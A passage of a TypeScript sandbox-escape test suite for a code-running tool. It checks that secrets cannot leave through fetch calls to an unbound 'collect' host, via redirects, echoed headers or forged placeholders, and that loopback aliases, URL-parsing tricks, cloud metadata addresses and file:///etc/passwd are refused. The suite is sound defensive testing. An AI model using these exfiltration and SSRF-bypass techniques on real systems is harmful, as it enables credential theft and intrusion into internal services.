const d: any = await fetch("${c.O}/collect", { method: "POST", body: JSON.stringify({ k: secret("API_TOKEN") }) }).catch((e) => e);
export default [a.name, b.name, d.name];`,
    untouched: ["other"],
    expect: (r) => expect(succeeds(r)).toEqual(["SecretRefusedError", "SecretRefusedError", "SecretRefusedError"]),
  },
  {
    name: "Basic credentials built from a placeholder (btoa and basicAuth) to an unbound host",
    config: "secrets",
    code: (c) => `${withKey}
const a: any = await fetch("${c.O}/collect", { headers: { Authorization: "Basic " + btoa("ada:" + secret("API_PASSWORD")) } }).catch((e) => e);
const b: any = await fetch("${c.O}/collect", { headers: { Authorization: basicAuth("ada", secret("API_TOKEN")) } }).catch((e) => e);
export default [a.name, b.name];`,
    untouched: ["other"],
    expect: (r) => expect(succeeds(r)).toEqual(["SecretRefusedError", "SecretRefusedError"]),
  },
  {
    name: "a placeholder in a redirect target: the bound host redirects the value to another host",
    config: "secrets",
    code: (c) => `${withKey} export default (await fetch("${c.A}/redir?to=" + encodeURIComponent("${c.O}/collect?k=") + secret("API_TOKEN"))).status;`,
    untouched: ["other"],
    expect: (r) => secretRefused(r),
  },
  {
    name: "a raw value echoed in JSON by the bound host arrives redacted, and sending it on carries no secret",
    config: "secrets",
    code: (c) => `${withKey}
const echo = await (await fetch("${c.A}/echo", { headers: { "X-Key": secret("API_TOKEN") } })).json();
const sent = await fetch("${c.O}/collect", { method: "POST", body: String(echo.key) + "|" + echo.url }).then((r) => r.status, (e: any) => e.name);
console.log("echoed", echo.key);
export default { key: echo.key, sent };`,
    noSecretsAt: ["other"],
    expect: (r) => {
      expect(succeeds(r).key).toBe("[secret:API_TOKEN]");
    },
  },
  {
    name: "URL-encoded and base64 forms echoed by the bound host are redacted in results, logs and workspace reads",
    config: "secrets",
    code: (c) => `${withKey} import { workspace } from "toolsmith";
const body = await (await fetch("${c.A}/forms", { headers: { "X-Key": secret("API_PASSWORD") } })).text();
console.log(body);
await workspace.write("secrets/forms.txt", body);
export default { body, back: await workspace.read("secrets/forms.txt") };`,
    expect: (r) => {
      const result = succeeds(r);
      expect(result.body).toContain("[secret:API_PASSWORD]");
    },
  },
  {
    name: "URL-encoded and base64 forms echoed by the bound host are redacted in errors",
    config: "secrets",
    code: (c) => `${withKey}
const body = await (await fetch("${c.A}/forms", { headers: { "X-Key": secret("API_PASSWORD") } })).text();
const e = new Error("echo was: " + body); (e as any).extra = body; throw e;`,
    expect: (r) => {
      failsWith(r);
      expect(r.body.error.message).toContain("[secret:API_PASSWORD]");
    },
  },
  {
    name: "a raw value echoed in a response header cannot be read (reversed) or sent elsewhere",
    config: "secrets",
    code: (c) => `${withKey}
const r = await fetch("${c.A}/hdr", { headers: { "X-Key": secret("API_TOKEN") } });
const v = r.headers.get("x-echo") ?? "";
const rev = v.split("").reverse().join("");
const sent = await fetch("${c.O}/collect", { method: "POST", body: rev }).then((x) => x.status, (e: any) => e.name);
export default { rev, sent };`,
    noSecretsAt: ["other"],
    expect: (r) => {
      succeeds(r);
    },
  },
  {
    name: "a raw value echoed in the status text cannot be read (reversed)",
    config: "secrets",
    code: (c) => `${withKey}
const r = await fetch("${c.A}/status", { headers: { "X-Key": secret("API_TOKEN") } });
export default r.statusText.split("").reverse().join("");`,
    expect: (r) => {
      succeeds(r);
    },
  },
  {
    name: "a raw value echoed in a binary (non-UTF-8) body cannot be read (reversed) or sent elsewhere",
    config: "secrets",
    code: (c) => `${withKey}
const r = await fetch("${c.A}/bin", { headers: { "X-Key": secret("API_TOKEN") } });
const v = new TextDecoder().decode((await r.bytes()).slice(2));
const rev = v.split("").reverse().join("");
const sent = await fetch("${c.O}/collect", { method: "POST", body: rev }).then((x) => x.status, (e: any) => e.name);
export default { rev, sent };`,
    noSecretsAt: ["other"],
    expect: (r) => {
      succeeds(r);
    },
  },
  {
    name: 'a value the bound host reflects into a redirect Location cannot be read with redirect: "manual"',
    config: "secrets",
    code: (c) => `${withKey}
const r = await fetch("${c.A}/redir?to=" + encodeURIComponent("${c.O}/collect?k=") + secret("API_TOKEN"), { redirect: "manual" });
export default { status: r.status, rev: (r.headers.get("location") ?? "").split("").reverse().join("") };`,
    untouched: ["other"],
    expect: (r) => {
      succeeds(r);
    },
  },
  {
    name: "a value the bound host reflects into a same-host redirect cannot be read from response.url",
    config: "secrets",
    code: (c) => `${withKey}
const r = await fetch("${c.A}/redir?to=" + encodeURIComponent("/echo?k=") + secret("API_TOKEN"));
export default { redirected: r.redirected, rev: r.url.split("").reverse().join("") };`,
    expect: (r) => {
      expect(succeeds(r).redirected).toBe(true);
    },
  },
  {
    name: 'a value reflected into a redirect Location cannot be read from the redirect: "error" message',
    config: "secrets",
    code: (c) => `${withKey}
const e: any = await fetch("${c.A}/redir?to=" + encodeURIComponent("/echo?k=") + secret("API_TOKEN"), { redirect: "error" }).catch((x) => x);
export default { name: e.name, rev: String(e.message).split("").reverse().join("") };`,
    expect: (r) => {
      succeeds(r);
    },
  },
  {
    name: "a placeholder forged with a guessed nonce is sent as the literal text, never as the value",
    config: "secrets",
    code: (c) => `${withKey}
const real = secret("API_TOKEN");
const guesses = ["tsm_secret_API_TOKEN_0000000000000000", "tsm_secret_API_TOKEN_" + "f".repeat(16), real.slice(0, -1) + (real.endsWith("0") ? "1" : "0"), real.toLowerCase()];
const out: string[] = [];
for (const g of guesses) out.push((await (await fetch("${c.A}/echo", { headers: { "X-Key": g } })).json()).key === g ? "literal" : "SUBSTITUTED");
export default out;`,
    expect: (r, c) => {
      expect(succeeds(r)).toEqual(["literal", "literal", "literal", "literal"]);
      for (const req of c.fixtures.allowed.requests.slice(-4)) expect(String(req.headers["x-key"])).not.toContain(TOKEN);
    },
  },
  {
    name: "a placeholder re-labelled with another secret's name is still checked against that secret's hosts",
    config: "secrets",
    code: (c) => `${withKey}
const forged = secret("API_TOKEN").replace("API_TOKEN", "API_PASSWORD");
export default await (await fetch("${c.O}/collect", { headers: { "X-Key": forged } })).text();`,
    untouched: ["other"],
    expect: (r) => secretRefused(r),
  },
  {
    name: "a placeholder from an earlier run is not substituted in a later one",
    config: "secrets",
    run: async (c) => {
      const first = await c.run(`${withKey} export default secret("API_TOKEN");`);
      const placeholder = succeeds(first) as string;
      const second = await c.run(`export default (await (await fetch("${c.A}/echo", { headers: { "X-Key": ${JSON.stringify(placeholder)} } })).json()).key;`);
      expect(succeeds(second)).toBe(placeholder);
      expect(c.fixtures.allowed.requests.at(-1)?.headers["x-key"]).toBe(placeholder);
      return second;
    },
    expect: (r) => succeeds(r),
  },
  {
    name: "secrets can be listed by name only",
    config: "secrets",
    code: `${withKey}
const e: any = (() => { try { secret("NOPE"); } catch (x) { return x; } })();
const e2: any = (() => { try { secret({ toString: () => "API_TOKEN" } as any); } catch (x) { return x; } })();
export default { message: e.message, typeError: e2.name, fn: String(secret), own: Object.getOwnPropertyNames(secret), placeholder: secret("API_PASSWORD").replace(/_[0-9a-f]{16}$/, "_<nonce>") };`,
    expect: (r) => {
      const result = succeeds(r);
      expect(result.message).toContain("API_PASSWORD, API_TOKEN");
      expect(result.typeError).toBe("TypeError");
      expect(result.placeholder).toBe("tsm_secret_API_PASSWORD_<nonce>");
    },
  },
]);

// --- 7. Network policy: exactly one explicit 127.0.0.1:<port> allowed ---------------------------
type UrlFor = (c: Ctx) => string;
const aliasesOf = (port: (c: Ctx) => number): Array<[string, UrlFor]> => [
  ["[::1]", (c) => `http://[::1]:${port(c)}/x`],
  ["[::ffff:127.0.0.1]", (c) => `http://[::ffff:127.0.0.1]:${port(c)}/x`],
  ["[::ffff:7f00:1]", (c) => `http://[::ffff:7f00:1]:${port(c)}/x`],
  ["[0:0:0:0:0:ffff:127.0.0.1]", (c) => `http://[0:0:0:0:0:ffff:127.0.0.1]:${port(c)}/x`],
  ["[::127.0.0.1] (IPv4-compatible)", (c) => `http://[::127.0.0.1]:${port(c)}/x`],
  ["[64:ff9b::7f00:1] (NAT64)", (c) => `http://[64:ff9b::7f00:1]:${port(c)}/x`],
  ["decimal 2130706433", (c) => `http://2130706433:${port(c)}/x`],
  ["octal 0177.0.0.1", (c) => `http://0177.0.0.1:${port(c)}/x`],
  ["hex 0x7f000001", (c) => `http://0x7f000001:${port(c)}/x`],
  ["short 127.1", (c) => `http://127.1:${port(c)}/x`],
  ["127.0.0.2", (c) => `http://127.0.0.2:${port(c)}/x`],
  ["0.0.0.0", (c) => `http://0.0.0.0:${port(c)}/x`],
  ["0", (c) => `http://0:${port(c)}/x`],
  ["localhost", (c) => `http://localhost:${port(c)}/x`],
  ["LOCALHOST. (upper case, trailing dot)", (c) => `http://LOCALHOST.:${port(c)}/x`],
  ["localhost.localdomain", (c) => `http://localhost.localdomain:${port(c)}/x`],
  ["percent-encoded localhost", (c) => `http://%6c%6f%63%61%6c%68%6f%73%74:${port(c)}/x`],
  ["127.0.0.1.nip.io (does not resolve offline)", (c) => `http://127.0.0.1.nip.io:${port(c)}/x`],
];

add(
  "network (one allowed port)",
  aliasesOf((c) => c.vPort).map(([label, url]) => ({
    name: `${label} on the victim's port`,
    code: (c: Ctx) => fetchText(url(c)),
    untouched: ["victim"] as FixtureName[],
    expect: (r: ToolReply) => refused(r),
  })),
);
add("network (one allowed port)", [
  {
    name: "the allowed 127.0.0.1:port works, the same host on another port is refused",
    run: async (c) => {
      expect(succeeds(await c.run(fetchText(`${c.A}/ok`)))).toBe("ok");
      return c.run(fetchText(`${c.V}/x`));
    },
    untouched: ["victim"],
    expect: (r) => refused(r),
  },
  {
    name: "[::1] on the allowed port (a different address than the one allowed)",
    code: (c) => fetchText(`http://[::1]:${c.aPort}/ok`),
    expect: (r) => refused(r),
  },
  {
    name: "every loopback name in /etc/hosts, on the victim's port",
    run: async (c) => {
      let last: ToolReply | undefined;
      for (const name of loopbackNamesFromHosts()) {
        last = await c.run(fetchText(`http://${name}:${c.vPort}/x`));
        expect(last.isError, `${name}: ${last.text}`).toBe(true);
        expect(last.body.error.name, name).toBe("NetworkRefusedError");
      }
      return last ?? c.run(fetchText(`http://localhost:${c.vPort}/x`));
    },
    untouched: ["victim"],
    expect: (r) => refused(r),
  },
  {
    name: "a redirect from the allowed host to 127.0.0.1 on the victim's port",
    code: (c) => fetchText(`${c.A}/redir?to=${encodeURIComponent(`${c.V}/x`)}`),
    untouched: ["victim"],
    expect: (r) => refused(r),
  },
  {
    name: "a redirect from the allowed host to localhost and [::1] on the victim's port",
    run: async (c) => {
      refused(await c.run(fetchText(`${c.A}/redir?to=${encodeURIComponent(`http://localhost:${c.vPort}/x`)}`)));
      return c.run(fetchText(`${c.A}/redir?to=${encodeURIComponent(`http://[::ffff:127.0.0.1]:${c.vPort}/x`)}`));
    },
    untouched: ["victim"],
    expect: (r) => refused(r),
  },
  {
    name: "a redirect from the allowed host to file:, data: and a userinfo URL",
    run: async (c) => {
      refused(await c.run(fetchText(`${c.A}/redir?to=${encodeURIComponent("file:///etc/passwd")}`)));
      refused(await c.run(fetchText(`${c.A}/redir?to=${encodeURIComponent("data:text/plain,hi")}`)));
      return c.run(fetchText(`${c.A}/redir?to=${encodeURIComponent(`http://127.0.0.1:${c.aPort}@127.0.0.1:${c.vPort}/x`)}`));
    },
    untouched: ["victim"],
    expect: (r) => refused(r),
  },
  {
    name: "userinfo naming the allowed host: http://allowed@127.0.0.1 and http://127.0.0.1:A@127.0.0.1:V",
    run: async (c) => {
      refused(await c.run(fetchText(`http://allowed@127.0.0.1:${c.aPort}/ok`)));
      return c.run(fetchText(`http://127.0.0.1:${c.aPort}@127.0.0.1:${c.vPort}/x`));
    },
    untouched: ["victim"],
    expect: (r) => refused(r),
  },
  {
    name: "backslash and double-port URL tricks reach the allowed server or nothing",
    run: async (c) => {
      failsWith(await c.run(fetchText(`http://127.0.0.1:${c.aPort}:${c.vPort}/x`)));
      // WHATWG parsing: the backslash ends the authority, so this is a path on the allowed server.
      return c.run(`export default (await fetch(${JSON.stringify(`http://127.0.0.1:${c.aPort}\\@127.0.0.1:${c.vPort}/x`)})).status;`);
    },
    untouched: ["victim"],
    expect: (r) => expect(succeeds(r)).toBe(404),
  },
  {
    name: "cloud metadata 169.254.169.254",
    code: fetchText("http://169.254.169.254/latest/meta-data/"),
    expect: (r) => refused(r),
  },
  {
    name: "metadata.google.internal (resolution fails offline, which is a refusal)",
    code: fetchText("http://metadata.google.internal/computeMetadata/v1/"),
    expect: (r) => refused(r),
  },
  {
    name: "file:, ftp: and data: URLs",
    run: async (c) => {
      refused(await c.run(fetchText("file:///etc/passwd")));
      refused(await c.run(fetchText(`ftp://127.0.0.1:${c.vPort}/x`)));
      return c.run(fetchText("data:text/plain,hello"));
    },
    untouched: ["victim"],
    expect: (r) => refused(r),
  },
]);

// --- 8. Network policy: the default config -------------------------------------------------------
add(
  "network (default policy)",
  [...aliasesOf((c) => c.aPort), ["127.0.0.1", (c: Ctx) => `${c.A}/ok`] as [string, UrlFor]].map(([label, url]) => ({
    name: `${label} to a local server`,
    config: "default" as ConfigName,
    code: (c: Ctx) => fetchText(url(c)),
    untouched: ["allowed", "victim"] as FixtureName[],
    expect: (r: ToolReply) => refused(r),
  })),
);
add("network (default policy)", [
  {
    name: "cloud metadata, file: and userinfo URLs",
    config: "default",
    run: async (c) => {
      refused(await c.run(fetchText("http://169.254.169.254/latest/meta-data/")));
      refused(await c.run(fetchText("http://[fd00:ec2::254]/latest/meta-data/")));
      refused(await c.run(fetchText("file:///etc/passwd")));
      return c.run(fetchText(`http://allowed@127.0.0.1:${c.aPort}/ok`));
    },
    untouched: ["allowed", "victim"],
    expect: (r) => refused(r),
  },
]);

function loopbackNamesFromHosts(): string[] {
  try {
    const names = new Set<string>(["localhost"]);
    for (const line of readFileSync("/etc/hosts", "utf8").split("\n")) {
      const [address, ...rest] = line.replace(/#.*/, "").trim().split(/\s+/);
      if (!address || !(address.startsWith("127.") || address === "::1")) continue;
      for (const name of rest) if (/^[A-Za-z0-9.-]+$/.test(name)) names.add(name);
    }
    return [...names].slice(0, 8);
  } catch {
    return ["localhost"];
  }
}

// ---------------------------------------------------------------------------------------------
// Servers, fixtures and the runner

const envs = {} as Record<ConfigName, Connected>;
const cleanups: Array<() => Promise<void>> = [];
const fixtures = {} as Record<FixtureName, Fixture>;
const escapes: string[] = [];

function cli(home: string, args: string[], input: string) {
  const r = runCliSync(args, { home, input });
  if (r.code !== 0) throw new Error(`toolsmith ${args.join(" ")} failed: ${r.stderr}`);
}

beforeAll(async () => {
  const text = (res: ServerResponse, body: string | Buffer, type = "text/plain") => void res.writeHead(200, { "content-type": type }).end(body);
  fixtures.victim = await startFixture({ "/x": (_req, res) => text(res, "victim-data") });
  fixtures.other = await startFixture({ "/collect": (_req, res, body) => void json(res, 200, { got: body.length }) });
  fixtures.allowed = await startFixture({
    "/ok": (_req, res) => text(res, "ok"),
    "/slow": async (_req, res) => {
      await new Promise((r) => setTimeout(r, 300));
      text(res, "slow");
    },
    "/redir": (req, res, _body, origin) => void res.writeHead(302, { location: new URL(req.url ?? "/", origin).searchParams.get("to") ?? "/ok" }).end(),
    "/echo": (req, res, body) => void json(res, 200, { key: req.headers["x-key"] ?? null, url: req.url, body }),
    // The three below echo the secret the way real servers sometimes do: in a header, the status line, a binary body.
    "/hdr": (req, res) => void res.writeHead(200, { "content-type": "text/plain", "x-echo": String(req.headers["x-key"] ?? "") }).end("ok"),
    "/status": (req, res) => void res.writeHead(200, String(req.headers["x-key"] ?? "OK"), { "content-type": "text/plain" }).end("ok"),
    "/bin": (req, res) => text(res, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(String(req.headers["x-key"] ?? ""), "utf8")]), "application/octet-stream"),
    "/forms": (req, res) => {
      const v = String(req.headers["x-key"] ?? "");
      text(res, ["raw=" + v, "url=" + encodeURIComponent(v), "b64=" + b64(v), "b64url=" + b64url(v)].join("\n"));
    },
  });
  const aPort = fixtures.allowed.port;

  // One allowed 127.0.0.1:<port>; a broken and a throwing integration on disk (not via save).
  const oneHostConfig = { network: { allow: [`127.0.0.1:${aPort}`], requestTimeoutMs: 5000 } };
  const one = await makeHome(oneHostConfig);
  cleanups.push(one.cleanup);
  const seeding = await connect(one.home, oneHostConfig);
  await seeding.close();
  writeFileSync(join(one.home, "library", "broken.ts"), "export const x: number = ;\n");
  writeFileSync(join(one.home, "library", "thrower.ts"), "export function boom(): never { throw new Error('from a library function'); }\nthrow new Error('at import: ' + typeof process);\n");
  envs.oneHost = await connect(one.home, oneHostConfig);

  const plain = await makeHome();
  cleanups.push(plain.cleanup);
  envs.default = await connect(plain.home);

  const secretsConfig = { network: { allow: [`127.0.0.1:${aPort}`, `127.0.0.1:${fixtures.other.port}`], requestTimeoutMs: 5000 } };
  const sec = await makeHome(secretsConfig);
  cleanups.push(sec.cleanup);
  cli(sec.home, ["secret", "set", "API_TOKEN", "--host", `127.0.0.1:${aPort}`], TOKEN);
  cli(sec.home, ["secret", "set", "API_PASSWORD", "--host", `127.0.0.1:${aPort}`], PASSWORD);
  envs.secrets = await connect(sec.home, secretsConfig);

  for (const home of [one.home, plain.home, sec.home]) hostPaths.push(home, safeRealpath(home));
  hostPaths = [...new Set(hostPaths)];
});

afterAll(async () => {
  for (const env of Object.values(envs)) await env?.close();
  for (const f of Object.values(fixtures)) await f?.close();
  for (const done of cleanups) await done();
  console.log(`escape suite: ${CASES.length} cases, ${escapes.length} escapes${escapes.length ? ` (${escapes.join("; ")})` : ""}`);
});

it("has at least 45 uniquely named cases", () => {
  expect(CASES.length).toBeGreaterThanOrEqual(45);
  expect(new Set(CASES.map((c) => `${c.category} › ${c.name}`)).size).toBe(CASES.length);
});

for (const category of [...new Set(CASES.map((c) => c.category))]) {
  describe(category, () => {
    for (const testCase of CASES.filter((c) => c.category === category)) {
      it(testCase.name, async () => {
        const env = envs[testCase.config ?? "oneHost"];
        const replies: ToolReply[] = [];
        const record = (reply: ToolReply) => {
          replies.push(reply);
          return reply;
        };
        const ctx: Ctx = {
          env,
          A: fixtures.allowed.origin,
          aPort: fixtures.allowed.port,
          V: fixtures.victim.origin,
          vPort: fixtures.victim.port,
          O: fixtures.other.origin,
          oPort: fixtures.other.port,
          fixtures,
          run: async (code, timeoutMs) => record(await env.call("run_code", timeoutMs === undefined ? { code } : { code, timeoutMs })),
          call: async (tool, args) => record(await env.call(tool, args)),
        };
        const seen = Object.fromEntries(Object.entries(fixtures).map(([k, f]) => [k, f.requests.length])) as Record<FixtureName, number>;
        try {
          let reply: ToolReply;
          if (testCase.run) reply = await testCase.run(ctx);
          else {
            const code = typeof testCase.code === "function" ? testCase.code(ctx) : testCase.code!;
            reply = await ctx.run(code, testCase.timeoutMs);
          }
          await testCase.expect(reply, ctx);
          replies.forEach((r, i) => assertClean(r, `reply ${i + 1}`));
          for (const name of testCase.untouched ?? []) {
            const extra = fixtures[name].requests.slice(seen[name]);
            expect(extra.map((r) => r.url), `the ${name} server must not be reached`).toEqual([]);
          }
          for (const name of testCase.noSecretsAt ?? []) {
            for (const req of fixtures[name].requests.slice(seen[name])) {
              const form = requestHasSecret(req);
              if (form) throw new Error(`the ${name} server received a secret (form ${JSON.stringify(form)}): ${JSON.stringify(req).slice(0, 400)}`);
            }
          }
          const next = await env.call("run_code", { code: "export default 6 * 7" });
          expect(next.isError, `the server must still answer a normal run: ${next.text}`).toBe(false);
          expect(next.body.result).toBe(42);
        } catch (error) {
          escapes.push(`${category} › ${testCase.name}`);
          throw error;
        }
      });
    }
  });
}
